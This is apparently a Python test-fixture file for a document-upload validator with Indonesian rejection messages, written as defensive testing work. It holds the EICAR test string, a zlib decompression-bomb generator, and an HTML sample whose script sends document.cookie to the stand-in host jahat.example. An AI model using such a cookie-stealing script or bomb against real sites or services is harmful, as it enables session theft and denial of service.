import zlib
from collections.abc import Callable
from dataclasses import dataclass

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<html><script>fetch('//jahat.example/'+document.cookie)</script></html>"

# What a person reads when the file is not accepted (each a part of the sentence).
LOCKED = "terkunci"
BROKEN = "tidak dapat dibuka"
PAGES = "1 sampai 300 halaman"
ACTIVE = "membawa skrip, perintah, atau berkas lain"
MIXED = "bercampur dengan isi jenis lain"
PIXELS = "40 megapiksel"
NEITHER = "bukan PDF, JPG, PNG, atau WEBP"
UNSOUND = "Dokumen ini tidak utuh"
OLD = "DOC, XLS, dan PPT tidak diterima"
TOO_MUCH = "terlalu rumit"
EMPTY = "kosong"


@dataclass(frozen=True)
class Case:
    """One file: how it is made, and its verdict: the media type it is kept as, or a part of the refusing sentence."""

    name: str
    make: Callable[[], bytes]
    verdict: str
    is_bomb: bool = False

    @property
    def is_accepted(self):
        return "/" in self.verdict


def zeros(megabytes, *, raw=False):
    """A zlib stream of so many megabytes of zeros, without ever holding them."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(1024 * 1024)) + packer.flush(zlib.Z_FULL_FLUSH)
    size = megabytes * 1024 * 1024
    adler = ((size % 65521) << 16) | 1
    body = block * megabytes + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    return body if raw else b"\x78\xda" + body + adler.to_bytes(4, "big")
